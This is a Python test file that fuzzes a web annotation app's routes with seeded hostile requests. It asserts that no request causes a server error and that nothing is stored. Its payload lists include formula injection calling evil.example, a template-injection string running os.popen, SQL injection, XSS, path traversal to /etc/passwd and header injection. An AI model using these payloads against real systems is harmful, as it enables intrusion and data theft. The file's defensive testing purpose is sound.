"""The review's probes (issue 27), generated: bad form posts, ids, paths and headers
against every route, as the lead, a rater and an anonymous visitor.

A seeded generator (the same 1,500 requests every run) builds each request
from hostile values chosen here: ids beyond the database's integers, digits
of other scripts, formula starts, template syntax, overlong fields, broken
encodings, forged proxy headers. No answer may be a 5xx and nothing may be
stored: every table has as many rows after the probes as before.

Left out on purpose: posts that are valid by construction would change state
(logging out, the rater's own password form); no value below is a valid score,
count, id of an existing row or token.
"""

from __future__ import annotations

import random
import re
from collections import Counter

from sqlalchemy import func, select
from sqlmodel import Session, SQLModel
from werkzeug.datastructures import MultiDict

from annotator.db import get_engine, session_scope
from annotator.study.studies import create_lead
from tests.conftest import LEAD_EMAIL, LEAD_PASSWORD

from .conftest import blocks_of, item_url, join, start

PROBES = 1500
SEED = 27

HOSTILE_IDS = [
    "0",
    "2147483648",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "1" + "0" * 30,
    "-1",
    "abc",
    "1.5",
    "٣",
    "３",
    "%00",
    "%2e%2e",
    "1%0a",
]
HOSTILE_TEXT = [
    "",
    " ",
    "\x00",
    "٣",
    "３",
    "𝟑",
    "١٠",
    "1e309",
    "nan",
    "-inf",
    "-0.001",
    "5.001",
    "1,2,3",
    '=HYPERLINK("http://evil.example/?"&A1, "x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{min.__class__.__mro__}",
    "' OR 1=1 --",
    "../../etc/passwd",
    "\r\nX-Injected: 1",
    "null",
    "[]",
    "a" * 2001,
    "é" * 1500,
    "\u202e\u0000\ufeff",
    "2147483648",
    "9223372036854775808",
    "-1",
    "0",
]
HOSTILE_SLUGS = ["x", "RT", "../rt", "rt%00", "a" * 300, "%ff", "٣"]
FIELDS = [
    "score",
    "count",
    "decision",
    "confirmed",
    "username",
    "password",
    "reason",
    "where",
    "format",
    "scale",
    "benchmark",
    "temperature",
    "runs",
    "gender",
    "age",
    "field",
    "csrf_token",
    "next",
    "PROLIFIC_PID",
    "assignmentId",
    "workerId",
    "hitId",
]
HEADERS = [
    {"HX-Request": "true"},
    {"X-Forwarded-For": "1.2.3.4, \u00ff, ::1"},
    {"X-Forwarded-Proto": "gopher"},
    {"X-Forwarded-Host": "evil.example"},
    {"Accept-Language": "\u00e9" * 50},
    {"If-Modified-Since": "not a date"},
    {"Range": "bytes=999999999-"},
    {"Referer": "javascript:alert(1)"},
    {"Content-Type": "multipart/form-data"},
    {"X-HTTP-Method-Override": "DELETE"},
]
RAW_BODIES = [
    (b"\xff\xfe\x00score=1", "application/x-www-form-urlencoded"),
    (b"score=%ZZ&count=%", "application/x-www-form-urlencoded"),
    (b'{"score": 3', "application/json"),
    (b"--x\r\nContent-Disposition: form-data; name=score\r\n\r\n3", "multipart/form-data"),
    (b"a=" + b"&a=".join([b"1"] * 1200), "application/x-www-form-urlencoded"),
]
# Posts left out: they change the visitor's state when sent as they are.
SKIPPED_POSTS = {"auth.logout", "rate.account"}
_PARAMETER = re.compile(r"<(?:(\w+)(?:\([^)]*\))?:)?(\w+)>")


# Computations, not stored input: the lead's study page keeps its dashboard as a job's
# result, and a lead's report or export request starts (or joins) a job.
COMPUTED = {"job", "jobresult"}


def _row_counts(app) -> dict[str, int]:
    with Session(get_engine(app)) as session:
        return {
            name: session.execute(select(func.count()).select_from(table)).scalar_one()
            for name, table in SQLModel.metadata.tables.items()
            if name not in COMPUTED
        }


def _fill(rule: str, rng: random.Random, real: dict[str, list[str]]) -> str:
    def value(match) -> str:
        converter, name = match.group(1), match.group(2)
        if converter in ("id", "int"):
            pool = HOSTILE_IDS + real.get(name, [])
        elif name == "slug":
            pool = HOSTILE_SLUGS + real["slug"]
        elif converter == "path":
            pool = ["../../etc/passwd", "%2e%2e/%2e%2e/x", "app.js%00", "vendor/", "a" * 300]
        else:
            pool = HOSTILE_TEXT[:20] + ["x" * 64]
        return rng.choice(pool)

    return _PARAMETER.sub(value, rule)


def _form(rng: random.Random):
    pairs = [(rng.choice(FIELDS), rng.choice(HOSTILE_TEXT)) for _ in range(rng.randint(0, 4))]
    return MultiDict(pairs)


def test_hostile_requests_get_no_5xx_and_store_nothing(app, client, study):
    with app.app_context(), session_scope(app) as session:
        create_lead(session, LEAD_EMAIL, LEAD_PASSWORD)
    lead = app.test_client()
    assert (
        lead.post("/login", data={"username": LEAD_EMAIL, "password": LEAD_PASSWORD}).status_code
        == 302
    )
    rater = join(app, client, study.slug)
    block = blocks_of(app, rater)[0]
    assert start(client, block.id).status_code == 302
    assert client.get(item_url(block.id, 1)).status_code == 200
    anonymous = app.test_client()
    clients = {"lead": lead, "rater": client, "anonymous": anonymous}
    # The rater's own block and places: the score posts reach the parser.
    real = {"slug": [study.slug], "block_id": [str(block.id)], "position": ["1", "2"]}

    rules = [
        (rule.rule, rule.endpoint, sorted(rule.methods - {"HEAD", "OPTIONS"}))
        for rule in app.url_map.iter_rules()
    ]
    before = _row_counts(app)
    rng = random.Random(SEED)
    statuses: Counter = Counter()
    failures = []
    for _ in range(PROBES):
        path, endpoint, methods = rng.choice(rules)
        method = rng.choice(methods)
        if method == "POST" and endpoint in SKIPPED_POSTS:
            method = "GET" if "GET" in methods else None
        if method is None:
            continue
        role = rng.choice(list(clients))
        url = _fill(path, rng, real)
        if rng.random() < 0.3:
            url += "?" + "&".join(
                f"{rng.choice(FIELDS)}={rng.choice(HOSTILE_IDS)}" for _ in range(2)
            )
        headers = rng.choice(HEADERS) if rng.random() < 0.4 else {}
        kwargs = {"headers": headers}
        if method == "POST":
            if rng.random() < 0.15:
                body, content_type = rng.choice(RAW_BODIES)
                kwargs.update(data=body, content_type=content_type)
            else:
                kwargs["data"] = _form(rng)
        response = clients[role].open(url, method=method, **kwargs)
        statuses[response.status_code] += 1
        if response.status_code >= 500:
            failures.append((role, method, url, kwargs, response.status_code))
        response.close()
    assert failures == [], failures[:5]
    assert sum(statuses.values()) >= 1000
    assert _row_counts(app) == before
    # The probes reach the views, not only the router: 200s, 302s and 4xx of several kinds.
    assert {200, 302, 404}.issubset(statuses) and len(statuses) >= 5, statuses


# The routes added since the first review (issue 36), probed each as every role with
# every method, on a crossed, a rubric and an overlap study, with a real job and a
# judge endpoint configured (an address nothing answers: no probe may reach it).
NEW_ROUTES = {
    "lead.job_page",
    "lead.job_file",
    "lead.job_cancel",
    "lead.job_rerun",
    "lead.judge_start",
    "lead.judge_failures_page",
    "lead.export_start",
    "lead.report_start",
    "lead.study_versions",
    "lead.study_version_file",
    "rate.pass_over_item",
    "rate.crowd_end",
    "rate.item",
    "rate.start",
}
NEW_FIELDS = ["endpoint", "model", "scales", "limit", "criterion", "score:fluency"]
NEW_FIELDS += ["score:coherence", "score:relevance", "stop", "confirmed"]
PER_ROUTE = 6


def test_hostile_requests_on_the_new_routes(make_app, tmp_path):
    from annotator.jobs import Job, JobResult, JobStatus
    from annotator.study.studies import get_study
    from tests.collect import overlap_sim as sim
    from tests.data.studies import CRITERIA_TOML, study_toml

    endpoints = {"local": {"base_url": "http://127.0.0.1:9/v1"}}
    app = make_app(JUDGE_ENDPOINTS=endpoints, EXPORT_JOB_MIN_RATINGS=0)
    runner = app.test_cli_runner()
    slugs = {"rt": study_toml(), "rb": study_toml(slug="rb", extra=CRITERIA_TOML)}
    slugs["ov"] = sim.overlap_toml(k=2, per_rater=4, slug="ov")
    with app.app_context(), session_scope(app) as session:
        create_lead(session, LEAD_EMAIL, LEAD_PASSWORD)
    for slug, toml in slugs.items():
        path = tmp_path / f"{slug}.toml"
        path.write_text(toml)
        result = runner.invoke(args=["study", "create", str(path)], catch_exceptions=False)
        assert result.exit_code == 0, result.output
    items = tmp_path / "items.csv"
    items.write_text(
        "item_id,benchmark,sentence1,sentence2,question,answer\n"
        + "".join(f"i{i},sts-b,a {i},b {i},,\n" for i in range(6))
        + "".join(f"q{i},truthfulqa,,,q {i}?,a {i}\n" for i in range(6))
    )
    for slug in slugs:
        result = runner.invoke(args=["items", "import", slug, str(items)])
        assert result.exit_code == 0, result.output
    lead = app.test_client()
    assert (
        lead.post("/login", data={"username": LEAD_EMAIL, "password": LEAD_PASSWORD}).status_code
        == 302
    )
    raters, real = {}, {"slug": list(slugs), "block_id": [], "position": ["1", "2"], "job_id": []}
    for slug in slugs:
        client = app.test_client()
        rater = join(app, client, slug)
        block = blocks_of(app, rater)[0]
        assert start(client, block.id).status_code == 302
        raters[slug] = client
        real["block_id"].append(str(block.id))
    with session_scope(app) as session:
        study = get_study(session, "rt")
        job = Job(
            study_id=study.id,
            kind="report",
            params_key="0" * 64,
            data_version="0" * 64,
            status=JobStatus.DONE,
            result_filename="r.html",
            result_mimetype="text/html",
        )
        session.add(job)
        session.flush()
        session.add(JobResult(job_id=job.id, data=b"<html></html>"))
        real["job_id"].append(str(job.id))
    clients = {"lead": lead, "anonymous": app.test_client(), **raters}
    rules = [
        (rule.rule, rule.endpoint, sorted(rule.methods - {"HEAD", "OPTIONS"}))
        for rule in app.url_map.iter_rules()
        if rule.endpoint in NEW_ROUTES
    ]
    assert {endpoint for _, endpoint, _ in rules} == NEW_ROUTES
    before = _row_counts(app)
    rng = random.Random(SEED)
    failures, probed, statuses = [], Counter(), Counter()
    for path, endpoint, methods in rules:
        for method in methods:
            for role, client in clients.items():
                for _ in range(PER_ROUTE):
                    url = _fill(path, rng, real)
                    data = None
                    if method == "POST":
                        fields = FIELDS + NEW_FIELDS
                        data = MultiDict(
                            (rng.choice(fields), rng.choice(HOSTILE_TEXT))
                            for _ in range(rng.randint(0, 5))
                        )
                    response = client.open(url, method=method, data=data)
                    probed[endpoint] += 1
                    statuses[response.status_code] += 1
                    if response.status_code >= 500:
                        failures.append((role, method, url, data, response.status_code))
                    response.close()
    assert failures == [], failures[:5]
    assert set(probed) == NEW_ROUTES
    assert _row_counts(app) == before
    # The probes reach the views: pages, redirects and refusals of several kinds.
    assert {200, 302, 404}.issubset(statuses) and len(statuses) >= 5, statuses
